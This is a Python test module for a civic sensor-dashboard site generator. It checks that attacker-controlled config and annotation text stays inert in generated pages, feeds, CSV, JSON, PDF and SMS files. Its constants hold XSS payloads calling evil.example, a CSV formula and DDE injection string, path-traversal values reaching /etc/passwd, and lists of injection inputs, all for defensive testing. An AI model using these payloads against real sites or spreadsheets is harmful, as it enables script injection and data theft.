"""What people type is text wherever it is published: no markup, no script, no link of its own, no formula, no path.

One town has every text of city.toml, of its signed policy and of its annotations replaced by attacks; whatever key is
added to city.toml is attacked, too. Each check has a twin that leaves out what protects, and finds it missing.
"""

from __future__ import annotations

import csv
import dataclasses
import json
import re
import tomllib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from datetime import date
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree

import jinja2
import pytest
from murmure_dashboards import charts, opendata, pages
from murmure_dashboards.config import City, parse
from murmure_dashboards.maker_statements import kind
from murmure_dashboards.pdf import Press
from murmure_dashboards.site import build, render
from murmure_dashboards.spoken import GSM_7, MOST_LETTERS
from murmure_privacy.annotation import Annotation
from murmure_privacy.errors import ConfigError
from pypdf import PdfReader
from pypdf.generic import DictionaryObject

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Dialog, Route

HERE = Path(__file__).parent
MARK = "Zattack"
MARKUP = (
    "\"'></title></desc></svg><script>alert(1)</script><img src=//evil.example/x onerror=alert(1)>"
    "<a href=javascript:alert(1)>x</a><!-- ]]> --> {{ 7 * 191 }} {% raw %} &lt;b&gt; &#60;i&#62; \\"
)
ATTACKS = {
    "markup": lambda key: f"{MARK} {key} {MARKUP}",
    "scheme": lambda key: f"javascript:alert('{MARK} {key}')//@evil.example",
    "formula": lambda key: f'=HYPERLINK("https://evil.example?"&A1,"{MARK} {key}")+cmd|\' /C calc\'!A0',
    "host": lambda key: f"//evil.example/{MARK} {key}/../../../../etc/passwd%00%2e%2e%2f@evil.example",
    "endless": lambda key: f"{MARK} {key} " + ("W" * 400 + " ") * 2 + "é" * 100,
}
# What city.toml takes in a shape of its own or from a closed list; every other text of it is attacked.
SHAPED = {
    *("timezone", "address", "licence", "geojson", "quartier.slug", "site.id", "site.quartier", "site.code"),
    *("site.dominant", "site.sensor.stream", "request.number", "request.site", "request.kind", "request.state"),
}


def texts(table: Any, head: str = "") -> Iterator[tuple[dict[str, Any], str, str]]:
    """Yields (its table, key, path of keys) of each text of a parsed city.toml."""
    for key, value in table.items():
        if isinstance(value, str):
            yield table, key, f"{head}{key}"
        elif isinstance(value, list):
            for entry in value:
                yield from texts(entry, f"{head}{key}.")


def dumped(table: Mapping[str, Any], head: str = "") -> str:
    """Returns TOML. What is no table comes first."""
    plain = {key: value for key, value in table.items() if not isinstance(value, list)}
    lines = [
        f"{key} = {json.dumps(value, ensure_ascii=False) if not isinstance(value, date) else value.isoformat()}\n"
        for key, value in plain.items()
    ]
    for key, entries in table.items():
        if isinstance(entries, list):
            lines += (f"\n[[{head}{key}]]\n{dumped(entry, f'{head}{key}.')}" for entry in entries)
    return "".join(lines)


def town() -> dict[str, Any]:
    """Returns the tests' city.toml with one site less: nothing has to be attacked twice."""
    table = tomllib.loads((HERE / "city.toml").read_text(encoding="utf-8"))
    table["site"] = table["site"][:2]
    return table


def taken(table: Mapping[str, Any]) -> City:
    """Returns the city, through the wall that every city.toml passes."""
    return parse(dumped(table).encode(), str(HERE / "city.toml"))


def attacked(attack: Callable[[str], str]) -> City:
    """Returns the town with every free text of it replaced."""
    table = town()
    for where, key, path in list(texts(table)):
        if path not in SHAPED:
            where[key] = attack(path)
    return taken(table)


def attacked_archive(streets: SimpleNamespace, attack: Callable[[str], str]) -> Any:
    """Returns an archive with a day of a site whose policy and annotations are attacks, too."""
    street, today = streets.Street(), streets.PARIS.day(streets.NOW_S - 1)
    window = streets.PARIS.day(today.start_s - 1)
    texts_of_policy = {"Délibération 2026-11-03 n° 42": "decision", "Mesurer la place.": "reason"}
    swap = [
        (json.dumps(old, ensure_ascii=False), json.dumps(attack(f"policy.{key}")[:990], ensure_ascii=False))
        for old, key in texts_of_policy.items()
    ]
    whole = type(window)(window.start_s, today.end_s)
    streets.add(street, "plaza", whole, swap=swap)
    words = "Z" + attack("annotation")[:199]  # the wire takes no sentence that begins with a sign
    mark = Annotation(
        *("plaza", 1, streets.NOW_S - 900, words, "plaza/noise"),
        *(today.start_s + 9 * 3600, today.start_s + 11 * 3600, "obstructed", words),
    )
    return street.annotate(mark)


def rendered(streets: SimpleNamespace, attack: Callable[[str], str]) -> dict[str, bytes]:
    """Returns the files of the attacked town."""
    return dict(render(attacked_archive(streets, attack), attacked(attack), streets.NOW_S))


class Structure(HTMLParser):
    """Elements with their attributes, addresses, and the text of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: set[tuple[str, ...]] = set()
        self.addresses: list[str] = []
        self.text: list[str] = []
        self.odd: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements |= {(tag,), *((tag, name) for name, _ in attrs)}
        self.addresses += (value or "" for name, value in attrs if name in ("href", "src"))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.odd.append(f"comment {data}")

    def unknown_decl(self, data: str) -> None:
        # In the letters of a picture it is text; with a sign that could end it early, it is not ours.
        if self.lasttag == "text" and re.fullmatch(r"CDATA\[[^][<>&]*", data):
            self.text.append(data.removeprefix("CDATA["))
        else:
            self.odd.append(f"declaration {data}")


def alive_in_page(text: str, known: set[tuple[str, ...]]) -> list[str]:
    """Returns what a page has that no page of ours has, and addresses that leave the site."""
    seen = Structure(text)
    away = [one for one in seen.addresses if re.match(r"[\s\0-\x20]*([a-z][a-z0-9+.-]*:|[/\\])", one, re.IGNORECASE)]
    reckoned = ["7 * 191 was reckoned"] if str(7 * 191) in text else []
    return [*("/".join(one) for one in sorted(seen.elements - known)), *away, *seen.odd, *reckoned]


def alive_in_feed(content: bytes) -> list[str]:
    """Returns what a feed has beyond the elements of Atom that ours have."""
    try:
        root = ElementTree.fromstring(content)
    except ElementTree.ParseError as error:
        return [str(error)]
    tags = {one.tag.rpartition("}")[2] for one in root.iter()}
    ours = {"feed", "id", "title", "subtitle", "updated", "author", "name", "rights", "link", "entry", "published"}
    hrefs = [one.attrib["href"] for one in root.iter() if "href" in one.attrib]
    away = [one for one in hrefs if not re.match(r"https://capteurs\.demo\.example/[a-z0-9/._-]*$", one)]
    return sorted(tags - {*ours, "summary"}) + away


def alive_in_table(content: bytes) -> list[str]:
    """Returns the cells of a CSV file that a spreadsheet would reckon."""
    rows = csv.reader(StringIO(content.decode("utf-8"), newline=""))
    number = re.compile(r"-?[0-9]+(\.[0-9]+)?")
    return [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r\n|%") and not number.fullmatch(cell)]


def alive_in_object(told: Any) -> list[str]:
    """Returns what a descriptor gives as an address that is none, or leads to a place that is none of ours."""
    if isinstance(told, list):
        return [wrong for one in told for wrong in alive_in_object(one)]
    if not isinstance(told, dict):
        return []
    given = [told[key] for key in ("@id", "path", "url", "href", "homepage", "license_url") if key in told]
    ours = re.compile(
        r"https://capteurs\.demo\.example/[A-Za-z0-9/._#-]*|mailto:[A-Za-z0-9._+-]+@[A-Za-z0-9.-]+|[A-Za-z0-9_-]+\.[a-z]+"
        r"|https?://(publications\.europa\.eu|www\.etalab\.gouv\.fr|www\.iana\.org)/[A-Za-z0-9/._-]+|[a-z]+:[A-Za-z0-9_]+"
        r"|https://www\.iana\.org/[a-z0-9/.+-]+"
    )
    wrong = [str(one) for one in given if not isinstance(one, str) or not ours.fullmatch(one)]
    return wrong + [found for one in told.values() for found in alive_in_object(one)]


Known = Mapping[str, set[tuple[str, ...]]]


def alive(made: Mapping[str, bytes], known: Known) -> dict[str, list[str]]:
    """Returns what is not inert, by file."""
    found = {}
    for path, content in made.items():
        form = path.rpartition(".")[2]
        wrong = [] if re.fullmatch(r"[A-Za-z0-9._-]+(/[A-Za-z0-9._-]+)*", path) and ".." not in path else [path]
        if form == "html":
            wrong += alive_in_page(content.decode(), known.get(path, set()))
        elif form == "xml":
            wrong += alive_in_feed(content)
        elif form == "csv":
            wrong += alive_in_table(content)
        elif form in ("json", "jsonld", "geojson"):
            wrong += alive_in_object(json.loads(content))
        elif form == "jsonl":
            wrong += [line for line in content.decode().splitlines() if not isinstance(json.loads(line), dict)]
        elif path.endswith("message.txt"):
            message = content.decode().removesuffix("\n")
            wrong += [message] if len(message) > MOST_LETTERS or set(message) - GSM_7 else []
        if wrong:
            found[path] = wrong
    return found


@pytest.fixture(scope="module")
def known(streets: SimpleNamespace) -> Known:
    """The elements with their attributes of each page of the same town, where every text is a plain word."""
    made = rendered(streets, lambda key: f"Mot {key}")
    return {path: Structure(content.decode()).elements for path, content in made.items() if path.endswith(".html")}


@pytest.fixture(scope="module")
def hostile(streets: SimpleNamespace) -> dict[str, dict[str, bytes]]:
    """The files of the town under each attack."""
    return {name: rendered(streets, attack) for name, attack in ATTACKS.items()}


def test_every_text_of_city_toml_is_attacked_or_has_a_shape() -> None:
    """A key that takes any text is in the attacks; one that does not refuses them in one line."""
    paths = {path for _, _, path in texts(town())}
    refused = set()
    for path in paths:
        for attack in (ATTACKS["markup"], ATTACKS["host"]):
            table = town()
            where, key = next((where, key) for where, key, of in texts(table) if of == path)
            where[key] = attack(path)
            try:
                taken(table)
            except ConfigError:
                refused.add(path)
    assert refused | {"site.sensor.stream"} == SHAPED
    no_text = ("simulated", "answer_days", "thresholds")
    fields = {field.name for field in dataclasses.fields(City) if field.init and field.name not in no_text}
    assert fields <= {path.partition(".")[0] for path in paths}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_people_typed_is_text_everywhere(
    hostile: Mapping[str, Mapping[str, bytes]], known: Known, attack: str
) -> None:
    """Pages, feeds, tables, descriptors and messages of an attacked town have the form of any town's."""
    made = hostile[attack]
    assert alive(made, known) == {}
    shown = {path for path, content in made.items() if MARK.encode() in content}
    kinds = {path.rpartition(".")[2] for path in shown}
    assert kinds >= {"html", "xml", "csv", "json", "jsonld", "geojson", "txt", "toml"}, "it is said in all of them"


def test_most_texts_are_shown_as_they_were_typed(hostile: Mapping[str, Mapping[str, bytes]]) -> None:
    """Nothing is cut out of them: who reads the page sees what was typed, signs and all."""
    said = "".join(
        text
        for path, content in hostile["markup"].items()
        if path.endswith(".html")
        for text in Structure(content.decode()).text
    )
    plain = re.sub(r"[\u00a0\u202f]", " ", said).replace("’", "'")
    paths = {path for _, _, path in texts(town())} - SHAPED | {"policy.decision", "policy.reason", "annotation"}
    lost = {path for path in paths if f"{MARK} {path} \"'></title></desc></svg><script>alert(1)</script>" not in plain}
    assert lost <= {"aasqa", "quartier.name", "city"}, lost


@pytest.mark.browser
def test_a_browser_runs_nothing_and_asks_nobody(hostile: Mapping[str, Mapping[str, bytes]], browser: Browser) -> None:
    """Each page of the attacked town, opened without the server's policy: no alert, no request but to its own host."""
    made = hostile["markup"]
    page = browser.new_page()
    said: list[str] = []

    def answer(route: Route) -> None:
        path = route.request.url.removeprefix("http://town.test/").partition("?")[0]
        content = made.get(f"{path}index.html" if path.endswith("/") or not path else path)
        if route.request.url.startswith("http://town.test/") and content is not None:
            route.fulfill(body=content)
        else:
            said.append(route.request.url)
            route.abort()

    def heard(dialog: Dialog) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", heard)
    page.on("pageerror", lambda error: said.append(str(error)))
    page.route("**/*", answer)
    opened = list({kind(path): path for path in made if kind(path) is not None}.values())
    for path in opened:
        page.goto(f"http://town.test/{path.removesuffix('index.html')}")
        assert page.locator("h1").count() == 1
        assert page.evaluate("document.querySelectorAll('script, img, iframe, [onerror], [onload]').length") == 0
    assert len(opened) >= 15 and said == []
    # The twin: what a page without protection would do is heard.
    made_twin = made["index.html"].replace(b"<h1>", f"<h1>{MARKUP}".encode())
    page.route("http://town.test/twin/", lambda route: route.fulfill(body=made_twin, content_type="text/html"))
    page.goto("http://town.test/twin/")
    assert "1" in said and any("evil.example" in one for one in said)
    page.context.close()


def test_a_template_that_does_not_escape_is_found(
    streets: SimpleNamespace, known: Known, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Broken twin: the same templates without escaping, and a picture without it."""
    bare = pages._templates.overlay(autoescape=False)
    bare.undefined = jinja2.StrictUndefined
    monkeypatch.setattr(pages, "_templates", bare)
    found = alive(rendered(streets, ATTACKS["markup"]), known)
    pages_of_it = {path for path in found if path.endswith(".html") and not path.startswith("en/")}
    assert {"index.html", "quartiers/centre/index.html", "capteurs/plaza/index.html"} <= pages_of_it
    assert any("script" in one for one in found["index.html"])


def test_a_picture_that_does_not_escape_is_found(
    streets: SimpleNamespace, known: Known, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Broken twin: the name of a place stands in the title of its picture, too."""
    monkeypatch.setattr(charts, "escape", lambda text: text)
    made = rendered(streets, ATTACKS["markup"])
    assert "script" in alive(made, known)["quartiers/centre/index.html"]


def test_a_sheet_of_paper_holds_no_link_and_no_script(streets: SimpleNamespace, tmp_path: Path) -> None:
    """The bulletin of the attacked town as PDF: its names are words on paper, nothing opens and nothing runs."""
    attack, press = ATTACKS["markup"], Press(tmp_path / "press", at_once=1)
    made = dict(render(attacked_archive(streets, attack), attacked(attack), streets.NOW_S, press=press))
    assert press.missing == ""
    sheet = PdfReader(tmp_path / "press" / next(iter((tmp_path / "press").iterdir())))
    assert [path for path in made if path.endswith(".pdf")] and len(sheet.pages) == 1
    assert "<script>" in sheet.pages[0].extract_text()
    objects = [sheet.get_object(number) for number in range(1, int(str(sheet.trailer["/Size"])))]
    names = {name for one in objects if isinstance(one, DictionaryObject) for name in one}
    assert "/StructTreeRoot" in names
    assert not names & {"/JS", "/JavaScript", "/OpenAction", "/AA", "/Launch", "/URI", "/Annots", "/EmbeddedFiles"}


FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "|calc", "%0a=1", "=", "-", "--1", "-1e5", "+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str, monkeypatch: pytest.MonkeyPatch, streets: SimpleNamespace) -> None:
    """Whatever begins with a sign that a spreadsheet reckons with gets an apostrophe before it, in every table; a note
    that came by no wire, too. Twin: without it, the check finds the cell."""
    note = Annotation("plaza", 1, streets.NOW_S, text, "plaza/noise", 0, 900, "other", text)
    one = SimpleNamespace(note=note, sealed=b"")
    line = (text,) * len(opendata.HEADER)
    for content in (opendata.faults([one], []), opendata.table([line])):
        assert alive_in_table(content) == [] and f"'{text}" in content.decode()
    monkeypatch.setattr(opendata, "cell", lambda cell: cell)
    assert set(alive_in_table(opendata.table([line]))) == {text}


@pytest.mark.parametrize("number", ["-1", "-0.5", "12", "0"])
def test_a_number_is_no_formula(number: str) -> None:
    """Negative counts stay numbers."""
    assert opendata.cell(number) == number


PATHS = [
    *(
        "..",
        ".",
        "a/b",
        "../x",
        "a/../b",
        "/etc",
        "\\x",
        "a\\b",
        "%2e%2e",
        "a%2fb",
        "~",
        "a b",
        "a.b",
        "-a",
        "a-",
        "a--b",
    ),
    *("é", "ａ", "A", "a\u0301", "a\u200bb", "\u2025", "a\x00b", "a\n", "a\t", "a;b", "a?b", "a#b", "a:b", "*", ""),
    *("index.html", "con.txt", "x" * 65, "x" * 300, "javascript:x", "<b>", "a'b", 'a"b', "{{a}}", "\ue000"),
]


@pytest.mark.parametrize("text", PATHS)
def test_no_name_of_a_folder_leads_elsewhere(text: str) -> None:
    """Slugs of neighbourhoods, names of sites, codes of poles and numbers of requests are refused in one line each, or
    are one short name of letters, digits and hyphens."""
    for path in ("quartier.slug", "site.id", "site.code", "request.number"):
        table = town()
        where, key = next((where, key) for where, key, of in texts(table) if of == path)
        where[key] = text
        try:
            taken(table)
        except ConfigError as error:
            assert "\n" not in str(error) and len(str(error)) < 600
        else:
            unwritten = path == "site.code" and text == ""
            assert unwritten or (re.fullmatch(r"[A-Za-z0-9]+(-[A-Za-z0-9]+)*", text) and len(text) <= 64), path


@pytest.mark.parametrize(
    "text",
    [
        *(
            "javascript:alert(1)/",
            "data:text/html,x/",
            "//evil.example/",
            "https://a/b?c/",
            "https://a/#/",
            "https://a/../",
        ),
        *("https://user@evil.example/", 'https://a/"/', "https://a b/", "HTTPS://A/", "https://a\\b/", "ftp://a/"),
    ],
)
def test_an_address_is_one_of_a_home_page(text: str) -> None:
    """It stands in feeds, descriptors and QR codes: no other scheme, no user, no query, no step upwards."""
    table = town() | {"address": text}
    with pytest.raises(ConfigError, match="is no address of a home page"):
        taken(table)


def test_a_name_without_an_end_is_cut_where_there_is_no_room(
    hostile: Mapping[str, Mapping[str, bytes]], streets: SimpleNamespace
) -> None:
    """A thousand letters break no message, no bulletin and no file."""
    made = hostile["endless"]
    for path, content in made.items():
        if path.endswith("message.txt"):
            assert len(content.decode().strip()) <= MOST_LETTERS
        if "bulletin" in path and path.endswith(".html"):
            assert not re.search("W{100}", content.decode())


def test_an_attacked_town_is_built_inside_its_folder(streets: SimpleNamespace, tmp_path: Path) -> None:
    """Nothing is written but the site, and what a build keeps beside it under its name."""
    attack = ATTACKS["host"]
    build(attacked_archive(streets, attack), attacked(attack), tmp_path / "site", streets.NOW_S)
    assert all(path.name == "site" or path.name.startswith("site.") for path in tmp_path.iterdir())
    root = (tmp_path / "site").resolve()
    assert all(path.resolve().is_relative_to(root) for path in root.rglob("*"))


@pytest.mark.parametrize("slug", ["../../out", "a/../../../out"])
def test_a_slug_that_passes_the_wall_would_be_found(slug: str, streets: SimpleNamespace, city: City) -> None:
    """Broken twin: a town that nobody parsed has a file outside, and the check names it."""
    bad = replace(city, quartier=(replace(city.quartier[0], slug=slug),), site=(), geojson=())
    made = dict(render(streets.Street(), bad, streets.NOW_S))
    assert any(".." in path for path in alive({path: b"" for path in made if path.endswith("y")} | made, {}))
